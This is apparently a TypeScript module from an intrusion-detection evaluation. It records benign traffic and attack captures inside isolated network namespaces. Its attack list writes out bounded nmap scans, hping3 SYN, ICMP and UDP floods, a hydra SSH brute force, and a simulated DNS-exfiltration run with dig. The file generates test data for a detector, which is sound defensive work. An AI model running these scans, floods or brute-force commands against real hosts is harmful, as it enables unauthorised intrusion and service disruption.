// Live traffic for the evaluation, recorded with tcpdump between two namespaces the evaluation creates
// and removes (10.77.x.0/24 on a veth pair, no route out): two stretches of benign traffic (curl, dig,
// ssh logins, ping, a bounded iperf3 transfer) and one capture per attack tool, every generator bounded
// in count and time. Needs root and the tools the live tests use.

import type { ChildProcess } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { createNetnsPair, stopGenerator, waitForExit, waitForStderr, type NetnsPair } from '../test/support/netns.js';
import { startServices, waitForPort, type Services } from '../test/support/live-services.js';
import type { AttackType, LabelledCapture } from './model-eval.js';

export interface LiveRecordings {
  benignTrain: string;
  benignHeldOut: string;
  attacks: LabelledCapture[];
}

interface LiveAttack { name: string; type: AttackType; cmd: (net: NetnsPair, dir: string) => string[]; seconds: number }

const ATTACKS: LiveAttack[] = [
  { name: 'nmap-syn-scan', type: 'scan', seconds: 40, cmd: (n) => ['nmap', '-n', '-Pn', '-sS', '-p', '1-1000', '--max-retries', '0', '-T4', '--host-timeout', '30s', n.ipA] },
  { name: 'nmap-connect-scan', type: 'scan', seconds: 40, cmd: (n) => ['nmap', '-n', '-Pn', '-sT', '-p', '1-1000', '--max-retries', '0', '-T4', '--host-timeout', '30s', n.ipA] },
  { name: 'nmap-udp-scan', type: 'scan', seconds: 40, cmd: (n) => ['nmap', '-n', '-Pn', '-sU', '-p', '1-300', '--max-retries', '0', '-T5', '--host-timeout', '30s', n.ipA] },
  { name: 'hping3-syn-flood', type: 'flood', seconds: 20, cmd: (n) => ['hping3', '-q', '-S', '-p', '8081', '-i', 'u200', '-c', '5000', n.ipA] },
  { name: 'hping3-icmp-flood', type: 'flood', seconds: 20, cmd: (n) => ['hping3', '-q', '-1', '-i', 'u500', '-c', '3000', n.ipA] },
  { name: 'hping3-udp-flood', type: 'flood', seconds: 20, cmd: (n) => ['hping3', '-q', '-2', '-p', '9999', '-i', 'u100', '-c', '12000', n.ipA] },
  { name: 'hydra-ssh', type: 'brute_force', seconds: 30, cmd: (n, d) => ['hydra', '-l', 'admin', '-P', join(d, 'passwords.txt'), '-t', '16', '-I', `ssh://${n.ipA}`] },
  { name: 'dig-dns-exfiltration', type: 'tunnel', seconds: 30, cmd: (n, d) => ['dig', `@${n.ipA}`, '-f', join(d, 'exfil-names.txt'), '+tries=1', '+time=1'] },
];

/**
 * Runs one bounded generator in `cwd`: hydra, cut off by its bound, writes ./hydra.restore, which
 * belongs with the recordings and not in whatever directory the evaluation was started from.
 */
function run(net: NetnsPair, ns: string, cmd: string[], seconds: number, children: ChildProcess[], cwd: string): Promise<void> {
  const c = net.generate(ns, cmd, seconds, cwd);
  children.push(c);
  return new Promise((r) => c.on('exit', () => r()));
}

/**
 * Records what body makes with tcpdump. bodySeconds bounds the body; tcpdump gets a minute more before
 * it counts as hung (a fixed bound cut off long benign recordings, --benign-seconds 1800).
 */
async function record(net: NetnsPair, file: string, children: ChildProcess[], bodySeconds: number, body: () => Promise<void>): Promise<void> {
  const dump = net.spawn(net.nsA, ['tcpdump', '-i', net.ifA, '-w', file, '-U', '--immediate-mode', '-s', '0']);
  children.push(dump);
  const exited = waitForExit(dump, (bodySeconds + 60) * 1000);
  // Observed at once, so a timeout while the body still runs fails the run through the await below
  // (and its cleanup) rather than as an unhandled rejection that leaves namespaces and servers behind.
  exited.catch(() => undefined);
  await waitForStderr(dump, /listening on/, 20_000);
  await body();
  await new Promise((r) => setTimeout(r, 500));
  dump.kill('SIGINT');
  await exited;
}

/**
 * SSH logins of the benign client are at least this far apart: at most 7.5 in the brute-force detector's
 * 300 s, under its 10. Unpaced (one action in ten, about 6 a minute) the 30-minute recordings raised 25
 * brute-force alerts on the "benign" client, whose windows training then left out as attacked while the
 * held-out ones counted as normal: the model never learnt the client, and its windows outranked the
 * slow SSH guesser (docs/model.md, long runs).
 */
const SSH_MIN_GAP_MS = 40_000;

/** About `seconds` of an ordinary client's traffic to the services, paced by a seeded schedule. */
async function benign(net: NetnsPair, services: Services, seconds: number, seed: number, children: ChildProcess[], cwd: string): Promise<void> {
  let s = seed;
  const rand = (): number => { s = (Math.imul(s, 1103515245) + 12345) >>> 0; return s / 4294967296; };
  const end = Date.now() + seconds * 1000;
  const names = ['www.example.com', 'mail.example.org', 'api.example.net', 'cdn.example.com', 'docs.example.org'];
  let lastSsh = -Infinity;
  while (Date.now() < end) {
    const r = rand();
    const ssh = r >= 0.75 && r < 0.85 && Date.now() - lastSsh >= SSH_MIN_GAP_MS;
    if (r < 0.45 || (r >= 0.75 && r < 0.85 && !ssh)) {
      await run(net, net.nsB, ['curl', '-s', '-o', '/dev/null', '--max-time', '5', `http://${net.ipA}/index.html`], 10, children, cwd);
    } else if (r < 0.75) await run(net, net.nsB, ['dig', `@${net.ipA}`, '+tries=1', '+time=2', names[Math.floor(rand() * names.length)], 'A'], 10, children, cwd);
    else if (ssh) {
      lastSsh = Date.now();
      await run(net, net.nsB, ['ssh', '-i', services.sshKey, '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null',
        '-o', 'BatchMode=yes', '-o', 'ConnectTimeout=5', `root@${net.ipA}`, 'true'], 20, children, cwd);
    } else if (r < 0.97) await run(net, net.nsB, ['ping', '-c', '3', '-i', '0.3', '-W', '1', net.ipA], 10, children, cwd);
    else await run(net, net.nsB, ['iperf3', '-c', net.ipA, '-t', '1', '-b', '50M'], 15, children, cwd);
    await new Promise((res) => setTimeout(res, 200 + rand() * 1800));
  }
}

/** The recordings a previous run left in dir (same names), or null when any is missing. */
export function previousRecordings(dir: string): LiveRecordings | null {
  const ipFile = join(dir, 'attacker.txt');
  if (!existsSync(ipFile)) return null;
  const attackerIp = readFileSync(ipFile, 'utf8').trim();
  const benignTrain = join(dir, 'live-benign-train.pcap');
  const benignHeldOut = join(dir, 'live-benign-heldout.pcap');
  const attacks = ATTACKS.map((a) => ({ path: join(dir, `live-${a.name}.pcap`), type: a.type, hosts: [attackerIp] }));
  return [benignTrain, benignHeldOut, ...attacks.map((a) => a.path)].every((f) => existsSync(f)) ? { benignTrain, benignHeldOut, attacks } : null;
}

/** Records the benign stretches and every attack into dir; the namespaces are removed afterwards. */
export async function recordLiveTraffic(dir: string, benignSeconds: number, log: (s: string) => void = () => undefined): Promise<LiveRecordings> {
  mkdirSync(dir, { recursive: true });
  const children: ChildProcess[] = [];
  const net = createNetnsPair('ev');
  let services: Services | null = null;
  try {
    net.exec(net.nsA, ['sysctl', '-q', '-w', 'net.ipv4.icmp_ratelimit=0']);
    services = startServices(net, children);
    await waitForPort(net, net.nsB, net.ipA, 22, 15_000);
    await waitForPort(net, net.nsB, net.ipA, 80, 15_000);
    const iperf = net.spawn(net.nsA, ['iperf3', '-s', '-B', net.ipA], true);
    children.push(iperf);
    await waitForPort(net, net.nsB, net.ipA, 5201, 10_000);
    writeFileSync(join(dir, 'passwords.txt'), Array.from({ length: 40 }, (_, i) => `wrong-password-${i}`).join('\n') + '\n');
    writeFileSync(join(dir, 'exfil-names.txt'), Array.from({ length: 60 }, (_, i) =>
      `${createHash('sha256').update(`chunk-${i}`).digest('hex').slice(0, 40)}.${i}.exfil.example.com TXT`).join('\n') + '\n');
    const svc = services;
    const benignTrain = join(dir, 'live-benign-train.pcap');
    const benignHeldOut = join(dir, 'live-benign-heldout.pcap');
    log(`recording ${benignSeconds} s of benign traffic (training)`);
    await record(net, benignTrain, children, benignSeconds + 30, () => benign(net, svc, benignSeconds, 1, children, dir));
    log(`recording ${benignSeconds} s of benign traffic (held out)`);
    await record(net, benignHeldOut, children, benignSeconds + 30, () => benign(net, svc, benignSeconds, 2, children, dir));
    const attacks: LabelledCapture[] = [];
    for (const a of ATTACKS) {
      log(`recording ${a.name}`);
      const file = join(dir, `live-${a.name}.pcap`);
      await record(net, file, children, a.seconds, () => run(net, net.nsB, a.cmd(net, dir), a.seconds, children, dir));
      attacks.push({ path: file, type: a.type, hosts: [net.ipB] });
    }
    writeFileSync(join(dir, 'attacker.txt'), net.ipB + '\n');
    return { benignTrain, benignHeldOut, attacks };
  } finally {
    services?.stop();
    for (const c of children) { stopGenerator(c); c.kill('SIGKILL'); }
    net.destroy();
  }
}
